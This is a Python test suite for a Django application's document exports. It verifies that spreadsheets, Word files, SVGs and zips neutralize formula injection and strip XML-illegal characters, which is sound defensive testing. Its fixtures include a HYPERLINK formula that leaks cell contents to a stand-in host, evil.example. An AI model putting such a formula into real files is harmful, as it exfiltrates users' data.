"""Every export writes user text as text: no live formulas, nothing XML cannot hold (issue #16).

The helpers get arbitrary Unicode (Hypothesis); then hostile names, answers and opinions are put
into the database the way old rows could hold them (control characters, formulas) and every
export URL is downloaded, opened and read back. A new export URL without a row here fails
test_every_export_url_is_exercised.
"""

import ast
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import docx
from django.urls import get_resolver
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from openday.lib.export_text import FORMULA_PREFIXES, append_row, safe_cell, xml_text
from openday.lib.official_doc import FANGSONG, OfficialDocument, add_text

# What XML 1.0 refuses; in the database only what PostgreSQL takes (no NUL, no surrogates).
NOT_XML = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
CTRL = "\x01\x0b\x1f"

# Hostile texts as stored, each with a marker that must still be readable in the export.
LINK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"点击查看详情")'
OPINION = f"{LINK}\x0b意见内容甲"
ANSWER = "+1\x01问卷回答乙"
NAME = "-2\x0b张三"
ORGANIZATION = "@SUM(A1)\x1f单位丙"
UNIT = "=开福区\x0b住建局丁"
THEME = "-主题\x01戊"
SUMMARY = "@经验\x0b做法己"
REASON = "+加分\x01理由庚"
ARTICLE = "=标题\x0b辛"


def shown(text):
    """What a reader sees: the text without the characters XML cannot hold."""
    return NOT_XML.sub("", text)


# --- The helpers, on anything ---------------------------------------------------------------

# Any code point (surrogates and NUL included), with the troublesome ones drawn often; built
# from a list because st.text() leaves surrogates out.
any_text = st.lists(
    st.one_of(
        st.characters(codec=None, exclude_categories=()),
        st.sampled_from(["\x00", "\x01", "\x0b", "\x1f", "\ud800", "\udfff", "\ufffe", "=", "-"]),
    ),
    max_size=40,
).map("".join)
values = st.one_of(
    any_text,
    st.integers(-(10**9), 10**9),
    st.none(),
    st.sampled_from(["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", LINK, "#N/A", "'=x"]),
)


def _reread(text):
    # XML parsers turn a bare carriage return into a line feed.
    return text.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(st.lists(values, min_size=1, max_size=4), min_size=1, max_size=4))
def test_any_text_written_through_the_helper_opens_as_text_in_xlsx(rows):
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表") if write_only else wb.active
        for row in rows:
            append_row(ws, row)
        out = io.BytesIO()
        wb.save(out)
        sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
        for row, line in zip(rows, sheet.iter_rows(), strict=False):
            for value, cell in zip(row, line, strict=False):
                assert cell.data_type != "f"
                if isinstance(value, str):
                    text = shown(value)
                    expected = "'" + text if text.startswith(FORMULA_PREFIXES) else text
                    if text in ("#N/A",):
                        expected = "'" + text
                    assert _reread(cell.value or "") == _reread(expected)
                elif value is not None:
                    assert cell.value == value


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(any_text.filter(lambda t: shown(t).strip()), min_size=2, max_size=4))
def test_any_text_written_through_the_helper_opens_in_docx(texts):
    doc = OfficialDocument()
    doc.title(texts[0])
    doc.paragraph(texts[1])
    add_text(doc.doc.add_paragraph(), texts[-1], FANGSONG, 16)
    # Two rows and an empty cell in the first: the copied rows must still get their texts.
    doc.table(["甲", "乙"], [[t, ""] for t in texts], [40, 40])
    document = docx.Document(io.BytesIO(doc.to_bytes()))
    paragraphs = [p.text for p in document.paragraphs]
    assert _reread(shown(texts[1])) in paragraphs
    assert _reread(shown(texts[-1])) in paragraphs
    cells = [[c.text for c in row.cells] for row in document.tables[0].rows[1:]]
    assert cells == [[_reread(shown(t)), ""] for t in texts]


@given(any_text)
def test_xml_text_keeps_exactly_what_xml_can_hold(text):
    cleaned = xml_text(text)
    assert NOT_XML.search(cleaned) is None
    assert cleaned == "".join(c for c in text if not NOT_XML.match(c))


def test_safe_cell_keeps_numbers_and_dates_typed_and_prefixes_formulas():
    from datetime import date, datetime
    from decimal import Decimal

    for value in (3, 2.5, Decimal("1.5"), date(2023, 6, 6), datetime(2023, 6, 6, 9), None):
        assert safe_cell(value) == value
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("\x0b=1") == "'=1"
    assert safe_cell("意见=1") == "意见=1"
    assert len(safe_cell("长" * 40000)) == 32767


# --- The sign-in sheet with an empty cell in its first row -----------------------------------


def test_signin_docx_with_two_rows_and_an_empty_first_row_cell(world, client):
    """Nobody has signed in yet, so 签到时间 and 签名 are empty in every row."""
    e = _event(world)
    _register(e, "王五", "13900000201", organization="")
    _register(e, "赵六", "13900000202", organization="某公司")
    world.client_for(client, "operator")
    r = client.get(f"/staff/events/{e.pk}/signin.docx")
    assert r.status_code == 200
    table = docx.Document(io.BytesIO(r.content)).tables[0]
    names = [row.cells[1].text for row in table.rows[1:3]]
    assert sorted(names) == ["王五", "赵六"]
    assert {row.cells[6].text for row in table.rows[1:3]} == {""}


# --- Every export, with hostile data ----------------------------------------------------------


def _event(world, title="住建局2023年“政务公开主题日”活动"):
    from django.utils import timezone

    from openday.events import services

    start = timezone.now() + timedelta(days=5)
    return services.create_event(
        world.users["unit_admin"],
        world.housing,
        title=title,
        starts_at=start,
        ends_at=start + timedelta(hours=2),
        venues=[{"name": "会场"}],
        capacity=20,
        publish=True,
    )


def _register(event, name, phone, organization=""):
    from openday.events import services

    return services.register(
        event.pk, name=name, phone=phone, category="public", organization=organization, consent=True
    )


def _hostile_world(world):
    """Objects made through the services with plain text, then given hostile text the way old
    rows (from before input was normalized, or from an import) can hold it."""
    from openday.campaigns.models import Campaign, DeclarationRow, PlanEntry
    from openday.demo.evaluation import load_demo_evaluation
    from openday.demo.services import load_demo_campaigns
    from openday.evaluation import services as evaluation
    from openday.evaluation.models import Adjustment, Award
    from openday.events.models import Event, Invitation, Registration
    from openday.opinions import services as opinions
    from openday.opinions import triage
    from openday.opinions.models import Opinion, TriageModel
    from openday.orgs.models import Org
    from openday.publicity.services import create_article
    from openday.summaries import services as summaries
    from openday.summaries.models import EventSummary
    from openday.surveys import services as surveys
    from openday.surveys.models import Answer, Survey

    load_demo_campaigns()
    load_demo_evaluation()
    kf, admin = world.users["kf_office"], world.users["unit_admin"]
    campaign = Campaign.objects.get(office=world.kaifu, year=2023)
    e = _event(world)
    first = _register(e, "甲", "13900000101", organization="甲单位")
    second = _register(e, "乙", "13900000102")
    Registration.objects.filter(pk=first.pk).update(name=NAME, organization=ORGANIZATION)
    Registration.objects.filter(pk=second.pk).update(name=LINK[:60])
    invitation = Invitation(event=e, name="丙", category="public", code="HOSTILE1")
    invitation.phone = "13900000103"
    invitation.save()
    Invitation.objects.filter(pk=invitation.pk).update(name=NAME, organization=ORGANIZATION)

    s = surveys.create_survey(admin, world.housing, title="安全测试问卷")
    q = surveys.save_question(admin, s, {"kind": "textarea", "title": "建议", "required": False})
    surveys.set_status(admin, s, "open")
    surveys.enter_paper(admin, s, batch_no="A", form_no="1", answers={q.pk: "回答一"})
    surveys.enter_paper(admin, s, batch_no="A", form_no="2", answers={q.pk: "回答二"})
    surveys.expand_pending(s.pk)
    Survey.objects.filter(pk=s.pk).update(event=e)
    Answer.objects.filter(survey=s, question=q).update(text=ANSWER)

    o = opinions.submit_opinion(
        content="普通意见", source="forum", event=e, name="丁", phone="13900000104", actor=kf
    )
    opinions.assign(kf, o, unit=world.housing)
    Opinion.objects.filter(pk=o.pk).update(content=OPINION, answer=ANSWER, summary=SUMMARY)
    triage.record_label(
        kf, o, TriageModel.Target.CATEGORY, "城乡建设", suggested="城乡建设", confidence=0.8
    )

    summaries.save_summary(admin, e, {"experiences": "草稿"})
    EventSummary.objects.filter(event=e).update(experiences=SUMMARY, shortcomings=ANSWER)

    scheme = evaluation.scheme_for(campaign, kf)
    evaluation.adjust(kf, scheme, world.housing, "2", "主动公开工作加分理由")
    Adjustment.objects.filter(scheme=scheme).update(reason=REASON)
    Award.objects.update(citation=REASON)

    entry = PlanEntry.objects.filter(campaign=campaign, unit=world.housing).first()
    PlanEntry.objects.filter(pk=entry.pk).update(theme=THEME, intro=OPINION, contact_name=NAME)
    DeclarationRow.objects.filter(
        declaration__campaign=campaign, declaration__unit=world.housing
    ).update(theme=THEME, intro=ANSWER)
    Campaign.objects.filter(pk=campaign.pk).update(theme=THEME)

    article = create_article(admin, world.housing, title="安全测试稿件", body="正文", event=e)
    type(article).objects.filter(pk=article.pk).update(title=ARTICLE, body=OPINION)

    Org.objects.filter(pk=world.housing.pk).update(name=UNIT)
    Event.objects.filter(pk=e.pk).update(theme=THEME, campaign=campaign)
    return {"campaign": campaign, "event": e, "survey": s, "article": article}


def _exports(world, w):
    """(url name, url, markers that must be readable in the file)."""
    c, e, s = w["campaign"].pk, w["event"].pk, w["survey"].pk
    h, k = world.housing.pk, world.kaifu.pk
    people = [NAME, ORGANIZATION, LINK[:60]]
    return [
        ("org_export", "/staff/orgs/export.xlsx", [UNIT]),
        ("org_import_template", "/staff/orgs/import/template.xlsx", []),
        ("campaign_notice_docx", f"/staff/campaigns/{c}/notice.docx", [THEME]),
        ("campaign_plan_xlsx", f"/staff/campaigns/{c}/plan.xlsx", [THEME, OPINION, UNIT]),
        ("campaign_plan_docx", f"/staff/campaigns/{c}/plan.docx", [THEME, OPINION, UNIT]),
        ("get_plan_xlsx", f"/api/v1/campaigns/{c}/plan.xlsx", [THEME, OPINION, UNIT]),
        (
            "declaration_template",
            f"/staff/campaigns/{c}/declare/{h}/template.xlsx",
            [THEME, ANSWER, UNIT],
        ),
        ("event_paper", f"/staff/events/{e}/signin.xlsx", people),
        ("event_paper", f"/staff/events/{e}/signin.docx", people),
        ("event_paper", f"/staff/events/{e}/cards.docx", people),
        ("event_paper", f"/staff/events/{e}/banner.svg", [UNIT]),
        ("event_letters", f"/staff/events/{e}/invitations/?letters=1", [NAME, UNIT]),
        ("survey_import_template", f"/staff/surveys/{s}/import/template.xlsx", []),
        ("survey_export", f"/staff/surveys/{s}/responses.xlsx", [ANSWER]),
        ("survey_summary", f"/staff/surveys/{s}/summary.docx", [ANSWER]),
        ("opinion_figures_xlsx", "/staff/opinion-figures/export.xlsx", [UNIT]),
        ("workday_template", "/staff/workdays/template.xlsx", []),
        ("opinion_export", "/staff/opinions/export.xlsx", [OPINION, ANSWER, SUMMARY]),
        ("opinion_import_template", "/staff/opinions/import/template.xlsx", []),
        ("article_wechat_zip", f"/staff/articles/{w['article'].pk}/wechat.zip", []),
        ("summary_campaign_xlsx", f"/staff/summaries/campaigns/{c}/figures.xlsx", [UNIT]),
        ("summary_docx", f"/staff/summaries/events/{e}/summary.docx", [SUMMARY, ANSWER, UNIT]),
        (
            "evidence_event",
            f"/staff/summaries/events/{e}/evidence.zip",
            [OPINION, ANSWER, SUMMARY, ORGANIZATION],
        ),
        (
            "evidence_unit",
            f"/staff/summaries/units/{h}/evidence.zip?campaign={c}",
            [OPINION, ANSWER, SUMMARY],
        ),
        ("evaluation_xlsx", f"/staff/campaigns/{c}/evaluation.xlsx", [REASON, UNIT]),
        ("evaluation_docx", f"/staff/campaigns/{c}/evaluation-report.docx", [UNIT]),
        ("triage_labels_xlsx", f"/staff/triage/labels.xlsx?office={k}", [OPINION]),
    ]


def _texts(name, data):
    """Every text in an exported file, checking on the way that it is safe."""
    texts = []
    if name.endswith(".xlsx"):
        wb = load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(("=", "+", "-", "@")), (name, cell.value)
                        assert NOT_XML.search(cell.value) is None
                        texts.append(cell.value)
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for member in zf.namelist():
                if member.startswith("xl/worksheets/"):
                    assert b"<f>" not in zf.read(member) and b"<f " not in zf.read(member)
    elif name.endswith(".docx"):
        document = docx.Document(io.BytesIO(data))
        texts += [p.text for p in document.paragraphs]
        for table in document.tables:
            texts += [cell.text for row in table.rows for cell in row.cells]
    elif name.endswith(".svg"):
        root = ElementTree.fromstring(data)
        texts += ["".join(el.itertext()) for el in root.iter()]
    elif name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for member in zf.namelist():
                texts += _texts(member, zf.read(member))
    return texts


def _kind(url, response):
    disposition = response.get("Content-Disposition", "")
    for ext in (".xlsx", ".docx", ".svg", ".zip"):
        if url.split("?")[0].endswith(ext) or ext in disposition:
            return ext
    raise AssertionError(f"{url}: not a file download")


def test_every_export_opens_holds_no_formula_and_keeps_the_hostile_text(
    world, client, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path / "media"
    w = _hostile_world(world)
    world.client_for(client, "operator")
    for name, url, markers in _exports(world, w):
        r = client.get(url)
        assert r.status_code == 200, (name, url, r.status_code)
        body = b"".join(r.streaming_content) if r.streaming else r.content
        texts = _texts("file" + _kind(url, r), body)
        joined = "\n".join(texts)
        assert NOT_XML.search(joined) is None, (name, url)
        # Line breaks may differ (str.splitlines() also splits at \x0b and \x1c–\x1e).
        flat = re.sub(r"\s", "", joined)
        for marker in markers:
            assert re.sub(r"\s", "", shown(marker)) in flat, (name, url, marker)


# --- Coverage: a new export URL needs a row above ---------------------------------------------

FILE_ROUTE = re.compile(r"\\?\.(xlsx|docx|csv|zip)\b")


def _file_url_names(resolver, prefix=""):
    from django.urls import URLPattern, URLResolver

    names = set()
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            names |= _file_url_names(p, prefix + str(p.pattern))
        elif isinstance(p, URLPattern) and FILE_ROUTE.search(str(p.pattern)):
            names.add(p.name or f"{prefix}{p.pattern}")
    return names


def test_every_export_url_is_exercised():
    one = SimpleNamespace(pk=1)
    rows = _exports(
        SimpleNamespace(housing=one, kaifu=one),
        dict.fromkeys(("campaign", "event", "survey", "article"), one),
    )
    exercised = {name for name, _url, _m in rows}
    missing = _file_url_names(get_resolver()) - exercised
    assert not missing, f"export URLs without a row in _exports: {sorted(missing)}"


# --- Mechanism: nothing writes into a sheet or a document without the helpers -----------------

SOURCE = Path(__file__).resolve().parent.parent / "openday"
# The helpers themselves: export_text, and official_doc whose add_text and table are the one
# place text enters a .docx (both checked by the Hypothesis tests above).
HELPERS = {SOURCE / "lib" / "export_text.py", SOURCE / "lib" / "official_doc.py"}


def _sheet_names(tree):
    """Names bound to a worksheet: wb.active, wb.create_sheet(...), or a parameter called ws."""
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            target, value = node.targets[0], node.value
            is_sheet = (isinstance(value, ast.Attribute) and value.attr == "active") or (
                isinstance(value, ast.Call)
                and isinstance(value.func, ast.Attribute)
                and value.func.attr == "create_sheet"
            )
            if is_sheet and isinstance(target, ast.Name):
                names.add(target.id)
        if isinstance(node, ast.arg) and (node.arg == "ws" or node.arg.endswith("_ws")):
            names.add(node.arg)
    return names


def _is_helper_call(node):
    return isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("safe_cell", "xml_text")


def _is_constant(node):
    return isinstance(node, ast.Constant) and isinstance(node.value, str | type(None))


def _unsafe_writes(path):
    tree = ast.parse(path.read_text(encoding="utf-8"))
    sheets = _sheet_names(tree)
    office = "openpyxl" in path.read_text(encoding="utf-8") or "docx" in path.read_text(
        encoding="utf-8"
    )
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = getattr(node.func.value, "id", None)
            if node.func.attr == "append" and owner in sheets:
                found.append((node.lineno, f"{owner}.append"))
            if node.func.attr in ("add_run", "add_paragraph", "add_heading") and node.args:
                if not all(_is_constant(a) or _is_helper_call(a) for a in node.args):
                    found.append((node.lineno, node.func.attr))
            if node.func.attr == "cell" and any(kw.arg == "value" for kw in node.keywords):
                found.append((node.lineno, "cell(value=…)"))
        if office and isinstance(node, ast.Assign):
            for target in node.targets:
                writes_sheet = isinstance(target, ast.Subscript) and (
                    getattr(target.value, "id", None) in sheets
                )
                writes_value = isinstance(target, ast.Attribute) and target.attr in (
                    "value",
                    "text",
                )
                if (writes_sheet or writes_value) and not (
                    _is_constant(node.value) or _is_helper_call(node.value)
                ):
                    found.append((node.lineno, ast.unparse(target)))
    return found


def test_no_export_writes_user_text_around_the_helpers():
    offenders = []
    for path in sorted(SOURCE.rglob("*.py")):
        if path in HELPERS or "migrations" in path.parts:
            continue
        offenders += [(str(path.relative_to(SOURCE)), *hit) for hit in _unsafe_writes(path)]
    assert not offenders, offenders


@given(st.text())
def test_imports_read_back_what_an_export_wrote(text):
    from openday.lib.export_text import safe_cell, xml_text
    from openday.lib.spreadsheet import cell_text
    from openday.lib.text import scrub

    written = safe_cell(text)
    if len(xml_text(text)) < 32767:
        assert cell_text(written) == scrub(xml_text(text))[0]
